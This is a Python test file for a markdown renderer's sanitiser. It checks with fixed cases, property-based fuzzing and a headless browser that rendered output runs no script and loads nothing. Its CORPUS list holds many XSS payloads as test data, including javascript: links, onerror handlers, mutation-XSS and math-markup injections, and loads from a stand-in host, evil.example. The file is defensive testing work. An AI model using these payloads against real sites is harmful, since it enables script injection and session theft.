"""Hostile text: nothing of it runs, loads or takes long. A second parser and a browser look at what comes out."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page

from annotate.rendering import _CLEANER, MAX_CHARS, TOKEN_CLASSES, render_guideline, render_markdown
from tests.rendering.audit import Audit

CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)><base href=//evil.example>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//evil.example'</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken><button formaction=javascript:alert(1)>",
    "<!-- hidden --><?php echo 1 ?><![CDATA[x]]><!DOCTYPE html>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div style='position:fixed;inset:0'>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://example.org/"onmouseover=alert(1)//)',
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://example.org '\"><script>alert(1)</script>')",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '!["><script>alert(1)</script>](https://evil.example/pixel.png)',
    "![x](https://evil.example/pixel.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[a [b](https://b.example) c](https://a.example)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|x|",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\text{<mglyph><style><!--</style><img title=--&gt;&lt;img src=1 onerror=alert(1)&gt;>}$",
    r"$\class{\" onclick=alert(1)}{x}$",
    r"$\color{red\" onclick=alert(1) \"}x$",
    r"$\verb|<script>alert(1)</script>|$",
    r"$\unknown\" onclick=alert(1) x=\"$",
    "$</code><script>alert(1)</script>{$",
    "$$\n</math><img src=x onerror=alert(1)>\n$$",
    "# <script>alert(1)</script>",
    "> - <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u202e",
    "[x]: javascript:alert(1)\n\n[x]",
    "x\n<x onclick=alert(1)\ny>",
    "*<b onclick='*'>*'>",
]
FRAGMENTS = [
    "<script>", "</script>", "<img src=x onerror=alert(1)>", " onclick=alert(1) ", "javascript:alert(1)", "<svg",
    "<!--", "-->", "</math>", "<style>", "[", "](", ")", "![", "`", "```", "```html\n", "$", "$$", r"\(", r"\)",
    r"\[", r"\]", r"\text{", "{", "}", r"\frac", r"\href{", "|", "\n|-|-|\n", "\n", "\n\n", "> ", "- ", "1. ", "#",
    "*", "_", "~~", "<", ">", '"', "'", "&", "&#x3c;", "&lt;", "https://a.example", "\\", "\x00", "\u202e", "é", "x",
    " ", "<?", "]]>", "]: ",
]  # fmt: skip


@pytest.mark.parametrize("text", CORPUS)
def test_it_disarms_known_attacks(text):
    for rendered in (render_markdown(text), render_guideline(text)):
        assert Audit(rendered).faults == []


@pytest.mark.parametrize("text", CORPUS)
def test_it_renders_what_the_sanitiser_leaves_as_it_is(text):
    rendered = render_markdown(text)
    assert _CLEANER.clean(rendered) == rendered


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_it_disarms_any_mixture_of_fragments(text):
    rendered = render_markdown(text)
    audit = Audit(rendered)
    assert audit.faults == []
    assert audit.classes <= TOKEN_CLASSES | {
        "align-center", "align-left", "align-right", "code", "image-link", "math-block", "math-source", "plain-text",
        "render-note", "table-scroll",
    }  # fmt: skip
    assert _CLEANER.clean(rendered) == rendered


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_it_renders_any_text(text):
    assert Audit(render_markdown(text)).faults == []


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(["alpha", "beta", "gamma", " ", "\n", "\n\n", "<b>", "[1]: https://a.example\n", "(", "]"])
    )
)
def test_it_loses_no_word(words):
    text = "".join(words)
    shown = Audit(render_markdown(text)).text
    for word in ("alpha", "beta", "gamma", "<b>", "https://a.example"):
        assert shown.count(word) == text.count(word)


def test_it_runs_and_loads_nothing_in_a_browser(page: Page):
    seen: list[str] = []
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: seen.append(f"request {request.url}"))
    page.on("pageerror", lambda error: seen.append(f"script {error}"))
    body = "\n".join(f"<section>{render_markdown(text)}</section>" for text in CORPUS)
    page.set_content(f"<!doctype html><html lang=en><title>x</title><main>{body}</main></html>")
    page.wait_for_timeout(200)
    assert seen == []
    assert page.locator("main > section").count() == len(CORPUS)
    assert (
        page.locator("main :is(script, img, iframe, style, form, input, svg, object, embed, link, base)").count() == 0
    )
    handlers = "es => es.filter(e => [...e.attributes].some(a => /^on|style/.test(a.name))).length"
    assert page.locator("main *").evaluate_all(handlers) == 0


@pytest.mark.parametrize(
    "pattern",
    [
        "[", "![", "[a](", "[a][", "![[]()", "*a **a ", "**a*", "`", "<", "(", "\\", "$", "$a ", "$$ x\n", "$$ x\n\n",
        "> ", "- ", "  - a\n", "#", "~~a", "&", "[a]: b\n", "a\n", "\\( ", "\\[ x\n", "\\[\nx\n\n", "> \\[\n", "$x$ ",
        "{", "|a",
    ],
)  # fmt: skip
def test_it_takes_bounded_time_for_patterns_that_slow_parsers_down(pattern):
    text = (pattern * MAX_CHARS)[:MAX_CHARS]
    before = time.process_time()
    render_markdown(text)
    # Measured: 0.7 s for the worst of these; a quadratic parser would need minutes.
    assert time.process_time() - before < 5
